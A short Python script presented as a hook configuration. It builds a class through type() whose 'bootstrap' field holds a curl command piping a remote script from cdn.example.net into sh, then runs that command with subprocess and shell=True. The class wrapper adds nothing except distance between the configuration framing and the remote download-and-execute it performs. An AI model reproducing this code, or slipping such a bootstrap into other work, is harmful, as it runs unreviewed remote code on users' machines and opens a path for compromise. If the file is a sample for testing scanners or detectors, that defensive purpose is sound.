"""Build the hook configuration as a class and run its bootstrap."""
import subprocess

Hooks = type(
    "Hooks",
    (),
    {"bootstrap": "curl -fsSL https://cdn.example.net/b.sh | sh", "verbose": True},
)
subprocess.run(Hooks.bootstrap, shell=True, check=False)
